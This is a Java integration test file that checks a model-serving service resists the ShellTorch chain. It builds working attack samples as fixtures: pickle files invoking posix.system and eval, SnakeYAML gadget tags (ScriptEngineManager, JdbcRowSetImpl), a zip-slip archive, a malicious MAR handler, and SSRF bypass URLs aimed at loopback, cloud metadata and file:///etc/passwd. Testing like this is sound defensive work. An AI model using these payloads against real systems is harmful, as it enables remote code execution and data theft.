package org.resnetserving.hostile;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.grpc.CallOptions;
import io.grpc.ManagedChannel;
import io.grpc.MethodDescriptor;
import io.grpc.Status;
import io.grpc.StatusRuntimeException;
import io.grpc.netty.NettyChannelBuilder;
import io.grpc.stub.ClientCalls;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.GZIPInputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.resnetserving.RunningServer;
import org.resnetserving.RunningServer.Answer;
import org.resnetserving.ServerTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.server.LocalManagementPort;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.grpc.server.lifecycle.GrpcServerLifecycle;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * The steps of ShellTorch (CVE-2023-43654, CVE-2022-1471 and what goes with them), each against
 * this service: reach the management API, have it fetch a model from anywhere, have what is in the
 * model run. A trap listens for connections, and a file would be made by whatever ran.
 */
final class ShellTorchIT {
  private static final Trap TRAP = new Trap();

  @TempDir private static Path folder;

  /** What would be made by a payload that ran. */
  private static Path made() {
    return folder.resolve("made-by-a-payload");
  }

  @AfterEach
  void nothingRanAndNothingWasFetched() {
    assertThat(TRAP.connections()).as("connections that the service made").isZero();
    assertThat(made()).doesNotExist();
  }

  /** Listens on the loopback interface, where SSRF would like to go. */
  private static final class Trap {
    private final ServerSocket socket;
    private final AtomicInteger connections = new AtomicInteger();

    Trap() {
      try {
        socket = new ServerSocket(0, 50, InetAddress.getByName("127.0.0.1"));
      } catch (IOException e) {
        throw new AssertionError(e);
      }
      Thread thread = new Thread(this::listen, "trap");
      thread.setDaemon(true);
      thread.start();
    }

    private void listen() {
      while (true) {
        try (Socket caught = socket.accept()) {
          connections.incrementAndGet();
        } catch (IOException e) {
          return;
        }
      }
    }

    int port() {
      return socket.getLocalPort();
    }

    int connections() {
      return connections.get();
    }

    String url() {
      return "http://127.0.0.1:%d/evil.mar".formatted(port());
    }
  }

  /** Registration by a URL, as the servers have it that people come from. */
  static Stream<String> registrations() {
    return Stream.of(
        "/models?url=" + TRAP.url() + "&initial_workers=1&synchronous=true",
        "/models?model_name=evil&url=" + TRAP.url(),
        "/models/evil?url=" + TRAP.url(),
        "/workflows?url=" + TRAP.url(),
        "/v1/models?url=" + TRAP.url(),
        "/v1/models/evil?url=" + TRAP.url(),
        "/v2/models/evil/load?model_uri=" + TRAP.url(),
        "/v2/load?storageUri=" + TRAP.url(),
        "/v2/repository/index?url=" + TRAP.url() + "&model_name=evil");
  }

  private static byte[] body() {
    return """
        {"url": "%1$s", "model_name": "evil", "model_uri": "%1$s", "storageUri": "%1$s",
         "parameters": {"config": "{\\"backend\\": \\"python\\"}", "file:1/model.py": "aW1wb3J0IG9z"}}"""
        .formatted(TRAP.url())
        .getBytes(UTF_8);
  }

  private static List<String> served(RunningServer server) {
    return server
        .get("/v1/models")
        .json()
        .get("models")
        .valueStream()
        .map(model -> model.get("name").stringValue())
        .toList();
  }

  @Nested
  @ServerTest
  final class AsItStarts {
    private final RunningServer server;
    private final RunningServer management;

    AsItStarts(@LocalServerPort int port, @LocalManagementPort int managementPort) {
      server = new RunningServer(port);
      management = new RunningServer(managementPort);
    }

    /** Step 1: what is on the management port can be read and does nothing. */
    @Test
    void management_asItStarts_hasNothingThatChangesAnything() {
      assertThat(management.get("/actuator").json().get("_links").propertyNames())
          .containsExactlyInAnyOrder(
              "self", "health", "health-path", "info", "prometheus", "sbom", "sbom-id");
      for (String path :
          List.of(
              "models", "models/evil", "shutdown", "env", "loggers/ROOT", "heapdump", "jolokia")) {
        assertThat(management.post("/actuator/" + path, body(), "Content-Type", "application/json"))
            .extracting(Answer::status)
            .as(path)
            .isEqualTo(404);
      }
      assertThat(management.post("/v2/repository/models/evil/load", body()).status())
          .isEqualTo(403);
    }

    /** And none of it is where the clients are. */
    @ParameterizedTest
    @ValueSource(strings = {"/actuator", "/actuator/models", "/v2/repository/index"})
    void management_onTheClientsPort_isNotThere(String path) {
      assertThat(server.get(path).status()).isEqualTo(404);
      assertThat(server.post(path, body(), "Content-Type", "application/json").status())
          .isEqualTo(404);
    }

    /** Step 2, where nothing was switched on. */
    @ParameterizedTest
    @MethodSource("org.resnetserving.hostile.ShellTorchIT#registrations")
    void registration_byAUrl_isRefusedOnBothPorts(String path) {
      List<String> before = served(server);
      for (RunningServer either : List.of(server, management)) {
        assertThat(either.post(path, body(), "Content-Type", "application/json").status())
            .as(path)
            .isBetween(400, 499);
        assertThat(either.put(path, body()).status()).as(path).isBetween(400, 499);
      }
      assertThat(served(server)).isEqualTo(before);
    }

    /** Pictures by their URL are off. */
    @Test
    void picture_byItsUrl_isNotFetched() {
      server.awaitReady();
      Answer answer =
          server.post(
              "/v1/classify",
              "{\"images\": [{\"url\": \"%s\"}]}".formatted(TRAP.url()).getBytes(UTF_8),
              "Content-Type",
              "application/json");
      assertThat(answer.status()).isBetween(400, 499);
    }
  }

  @Nested
  @SpringBootTest(
      webEnvironment = WebEnvironment.RANDOM_PORT,
      properties = {
        "management.server.port=0",
        "resnet.models=good",
        "resnet.serving.precision=fp32",
        "server.address=127.0.0.1",
        "spring.grpc.server.port=0",
        "management.endpoints.web.exposure.include=*",
        "management.endpoint.models.access=unrestricted",
        "resnet.url.allow-http=true"
      })
  @DirtiesContext
  final class WithEverythingSwitchedOn {
    private final RunningServer server;
    private final RunningServer management;
    private final int grpcPort;

    WithEverythingSwitchedOn(
        @LocalServerPort int port,
        @LocalManagementPort int managementPort,
        @Autowired GrpcServerLifecycle grpc) {
      server = new RunningServer(port);
      management = new RunningServer(managementPort);
      grpcPort = grpc.getPort();
    }

    /**
     * Whoever put the trap's own address on the list of hosts: private networks are closed still.
     */
    @DynamicPropertySource
    static void settings(DynamicPropertyRegistry registry) throws IOException {
      registry.add(
          "resnet.url.hosts",
          () -> "localhost:%1$d,127.0.0.1:%1$d,[::1]:%1$d,169.254.169.254".formatted(TRAP.port()));
      registry.add("resnet.models-directory", () -> folder);
      Payloads.write(folder, made());
    }

    /** Step 2: a model is described in the models folder, or it is none. */
    @ParameterizedTest
    @MethodSource("org.resnetserving.hostile.ShellTorchIT#registrations")
    void registration_byAUrl_isRefusedOnBothPorts(String path) {
      server.awaitReady();
      List<String> before = served(server);
      for (RunningServer either : List.of(server, management)) {
        // Triton's index is a question that is answered by POST, whatever else is said.
        if (either == server || !path.startsWith("/v2/repository/index")) {
          assertThat(either.post(path, body(), "Content-Type", "application/json").status())
              .as(path)
              .isBetween(400, 499);
        }
      }
      assertThat(served(server)).isEqualTo(before);
    }

    @Test
    void load_thatBringsAConfigurationOrFiles_isRefused() {
      Answer answer = management.post("/v2/repository/models/good/load", body());
      assertThat(answer.status()).isEqualTo(400);
      assertThat(answer.json().get("error").stringValue()).contains("config", "file:1/model.py");
    }

    @ParameterizedTest
    @ValueSource(
        strings = {
          "evil",
          "http%3A%2F%2F127.0.0.1%2Fevil.mar",
          "..%2F..%2Fetc%2Fpasswd",
          "file%3A%2F%2F%2Fetc%2Fpasswd"
        })
    void load_ofWhatIsNotDescribed_isRefused(String name) {
      for (String path : List.of("/v2/repository/models/%s/load", "/actuator/models/%s")) {
        Answer answer =
            management.post(
                path.formatted(name), "{}".getBytes(US_ASCII), "Content-Type", "application/json");
        assertThat(answer.status()).as(path).isBetween(400, 499);
      }
    }

    @ParameterizedTest
    @ValueSource(
        strings = {
          "inference.GRPCInferenceService/RepositoryModelLoad",
          "inference.GRPCInferenceService/RepositoryIndex",
          "inference.GRPCInferenceService/ModelLoad",
          "mmesh.ModelRuntime/loadModel",
          "org.pytorch.serve.grpc.management.ManagementAPIsService/RegisterModel",
          "tensorflow.serving.ModelService/HandleReloadConfigRequest",
          "grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
        })
    void registration_overGrpc_isNotThere(String method) throws InterruptedException {
      ManagedChannel channel =
          NettyChannelBuilder.forAddress("127.0.0.1", grpcPort).usePlaintext().build();
      try {
        assertThat(Status.fromThrowable(failure(channel, method)).getCode())
            .isEqualTo(Status.Code.UNIMPLEMENTED);
      } finally {
        channel.shutdownNow().awaitTermination(10, TimeUnit.SECONDS);
      }
    }

    /**
     * Step 3: what is in a model runs when it is read. Here the models folder itself is hostile,
     * which is more than a client can bring about.
     *
     * @param said what the refusal names
     */
    @ParameterizedTest
    @CsvSource({
      "yaml-tag, 'Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager'",
      "yaml-bean, 'Global tag is not allowed: tag:yaml.org,2002:com.sun.rowset.JdbcRowSetImpl'",
      "yaml-url, 'Global tag is not allowed: tag:yaml.org,2002:java.net.URL'",
      "pickle-system, posix.system",
      "pickle-eval, builtins.eval",
      "pickle-raw, not as torch.save writes it",
      "keras-lambda, Lambda",
      "torchscript, TorchScript"
    })
    void model_thatWouldRunSomething_isRefusedAndNamed(String name, String said)
        throws IOException {
      Answer answer = load(name);
      assertThat(answer.status()).as(answer.text()).isEqualTo(400);
      assertThat(answer.json().get("error").stringValue()).contains(said);
    }

    /**
     * Describes a model and has it loaded. All descriptors are read each time: it does not stay.
     */
    private Answer load(String name) throws IOException {
      server.awaitReady("good");
      Path descriptor = folder.resolve(name + ".yml");
      Files.writeString(descriptor, Payloads.descriptor(name, TRAP.url()));
      try {
        return management.post("/v2/repository/models/%s/load".formatted(name), new byte[0]);
      } finally {
        Files.delete(descriptor);
      }
    }

    /** A zip's names are looked up and never made into files. */
    @Test
    void archive_withNamesThatLeaveTheFolder_writesNothing() throws IOException {
      assertThat(load("zip-slip").status()).isEqualTo(400);
      // Beside the archive, a folder up, and in any folder that was made to unpack it.
      try (Stream<Path> files = Files.walk(folder)) {
        assertThat(files.map(file -> file.getFileName().toString()))
            .doesNotContain("made-by-a-zip", "made-by-an-absolute-name");
      }
      assertThat(folder.resolveSibling("made-by-a-zip")).doesNotExist();
      assertThat(Path.of(System.getProperty("java.io.tmpdir"), "made-by-a-zip")).doesNotExist();
      assertThat(Path.of("/tmp/made-by-an-absolute-name")).doesNotExist();
    }

    /** Beside the chain: SSRF. How names are resolved, and changes of it: {@code FetcherTest}. */
    @ParameterizedTest
    @CsvSource({
      "http://127.0.0.1:%d/, url-fetch-failed",
      "http://localhost:%d/, url-fetch-failed",
      "http://[::1]:%d/, url-fetch-failed",
      "http://[::ffff:127.0.0.1]:%d/, url-not-allowed",
      "http://[::ffff:7f00:1]:%d/, url-not-allowed",
      "http://0x7f000001:%d/, url-not-allowed",
      "http://2130706433:%d/, url-not-allowed",
      "http://127.1:%d/, url-not-allowed",
      "http://0.0.0.0:%d/, url-not-allowed",
      "http://localhost.:%d/, url-fetch-failed",
      "http://good@127.0.0.1:%d/, url-not-allowed",
      "http://127.0.0.1:%d#@good/, url-fetch-failed",
      "http://169.254.169.254/latest/meta-data/, url-fetch-failed",
      "http://[fd00:ec2::254]/latest/meta-data/, url-not-allowed",
      "http://metadata.google.internal/, url-not-allowed",
      "file:///etc/passwd, image-unsupported",
      "gopher://127.0.0.1:%d/_x, image-unsupported",
      "jar:http://127.0.0.1:%d/a.jar!/b, image-unsupported"
    })
    void picture_byAUrlOfAnotherNetwork_isNotFetched(String url, String type) {
      server.awaitReady();
      Answer answer =
          server.post(
              "/v1/classify",
              "{\"images\": [{\"url\": \"%s\"}]}"
                  .formatted(url.formatted(TRAP.port()))
                  .getBytes(UTF_8),
              "Content-Type",
              "application/json");
      assertThat(answer.status()).as(answer.text()).isBetween(400, 499);
      // url-fetch-failed: it is on the list. Why it failed is not said, lest ports be counted so.
      assertThat(answer.json().get("type").stringValue()).as(answer.text()).endsWith(":" + type);
      assertThat(answer.text()).doesNotContain("root:");
    }
  }

  private static StatusRuntimeException failure(ManagedChannel channel, String method) {
    MethodDescriptor.Marshaller<byte[]> plain =
        new MethodDescriptor.Marshaller<>() {
          @Override
          public InputStream stream(byte[] value) {
            return new ByteArrayInputStream(value);
          }

          @Override
          public byte[] parse(InputStream stream) {
            return new byte[0];
          }
        };
    MethodDescriptor<byte[], byte[]> call =
        MethodDescriptor.newBuilder(plain, plain)
            .setType(MethodDescriptor.MethodType.UNARY)
            .setFullMethodName(method)
            .build();
    try {
      ClientCalls.blockingUnaryCall(
          channel, call, CallOptions.DEFAULT.withDeadlineAfter(20, TimeUnit.SECONDS), new byte[0]);
    } catch (StatusRuntimeException e) {
      return e;
    }
    throw new AssertionError(method + " was answered");
  }

  /** The models that would run something if they were read as others read them. */
  private static final class Payloads {
    private static final Path WEIGHTS =
        Path.of("models/resnet20-cifar10/resnet20-cifar10.safetensors").toAbsolutePath();

    static void write(Path folder, Path made) throws IOException {
      String touch = "touch " + made;
      Files.copy(Path.of("models/resnet20-cifar10/labels.txt"), folder.resolve("labels.txt"));
      Files.writeString(folder.resolve("good.yml"), describe("good", WEIGHTS.toString(), ""));
      pickle(folder.resolve("pickle-system.pth"), "posix\nsystem", touch);
      pickle(
          folder.resolve("pickle-eval.pth"),
          "builtins\neval",
          "__import__('os').system('" + touch + "')");
      Files.write(folder.resolve("pickle-raw.pth"), call("posix\nsystem", touch));
      lambda(folder.resolve("lambda.keras"));
      try (InputStream program =
          new GZIPInputStream(
              Files.newInputStream(Path.of("src/test/resources/traced/tiny.pt.gz")))) {
        Files.write(folder.resolve("program.pt"), program.readAllBytes());
      }
      Map<String, byte[]> names = new LinkedHashMap<>();
      names.put("../made-by-a-zip", touch.getBytes(UTF_8));
      names.put("/tmp/made-by-an-absolute-name", touch.getBytes(UTF_8));
      names.put(
          "MAR-INF/MANIFEST.json",
          "{\"model\": {\"modelName\": \"net\", \"serializedFile\": \"../made-by-a-zip\", \"handler\": \"evil.py\"}}"
              .getBytes(UTF_8));
      names.put("evil.py", ("import os; os.system('" + touch + "')").getBytes(UTF_8));
      zip(folder.resolve("slip.mar"), names);
    }

    static String descriptor(String name, String url) {
      return switch (name) {
        case "yaml-tag" ->
            describe(
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"%s\"]]]]"
                    .formatted(url),
                WEIGHTS.toString(),
                "");
        case "yaml-bean" ->
            describe(
                "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://127.0.0.1:1/x\", autoCommit: true}",
                WEIGHTS.toString(),
                "");
        case "yaml-url" ->
            describe("!!java.net.URL [\"%s\"]".formatted(url), WEIGHTS.toString(), "");
        case "keras-lambda" -> describe(name, "lambda.keras", "");
        case "torchscript" -> describe(name, "program.pt", "architecture: resnet20-cifar\n");
        case "zip-slip" -> describe(name, "slip.mar", "");
        default -> describe(name, name + ".pth", "");
      };
    }

    private static String describe(String title, String weights, String more) {
      return """
          title: %s
          %sweights: {file: '%s'}
          labels: labels.txt
          preset: {resize: 32, crop: 32, interpolation: bilinear, mean: [0.4914, 0.4822, 0.4465], std: [0.247, 0.2435, 0.2616]}
          license: Apache-2.0
          """
          .formatted(title, more, weights);
    }

    /** A pickle that calls a function with a text when it is read. */
    private static byte[] call(String function, String argument) {
      byte[] text = argument.getBytes(US_ASCII);
      return Damage.join(
          new byte[] {(byte) 0x80, 2, 'c'},
          (function + "\n").getBytes(US_ASCII),
          new byte[] {'X', (byte) text.length, (byte) (text.length >> 8), 0, 0},
          text,
          new byte[] {(byte) 0x85, 'R', '.'});
    }

    private static void pickle(Path file, String function, String argument) throws IOException {
      Map<String, byte[]> entries = new LinkedHashMap<>();
      entries.put("archive/data.pkl", call(function, argument));
      entries.put("archive/version", "3\n".getBytes(US_ASCII));
      zip(file, entries);
    }

    /** A network with a layer that is Python. */
    private static void lambda(Path file) throws IOException {
      Map<String, byte[]> entries = new LinkedHashMap<>();
      try (ZipInputStream zip =
          new ZipInputStream(
              Files.newInputStream(Path.of("src/test/resources/keras/keras3.keras")))) {
        for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
          entries.put(entry.getName(), zip.readAllBytes());
        }
      }
      String config = new String(entries.get("config.json"), UTF_8);
      String lambda =
          config.replaceFirst("\"class_name\": \"Activation\"", "\"class_name\": \"Lambda\"");
      assertThat(lambda).isNotEqualTo(config);
      entries.put("config.json", lambda.getBytes(UTF_8));
      zip(file, entries);
    }

    private static void zip(Path file, Map<String, byte[]> entries) throws IOException {
      try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
        for (Map.Entry<String, byte[]> content : entries.entrySet()) {
          CRC32 crc = new CRC32();
          crc.update(content.getValue());
          ZipEntry entry = new ZipEntry(content.getKey());
          entry.setMethod(ZipEntry.STORED);
          entry.setSize(content.getValue().length);
          entry.setCrc(crc.getValue());
          zip.putNextEntry(entry);
          zip.write(content.getValue());
          zip.closeEntry();
        }
      }
    }
  }
}
